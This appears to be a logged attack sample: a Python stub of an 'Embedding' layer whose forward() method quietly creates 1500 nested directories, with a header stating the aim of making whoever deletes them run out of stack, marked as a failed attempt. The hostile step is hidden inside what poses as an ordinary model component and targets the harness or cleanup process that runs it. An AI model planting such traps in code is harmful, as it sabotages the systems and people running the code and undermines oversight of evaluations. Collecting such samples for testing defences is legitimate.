# /// attack
# tries = "Leaves folders nested so deep that whoever removes them runs out of stack."
# status = "failed"
# says = "got None"
# ///
import os


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        here = os.getcwd()
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
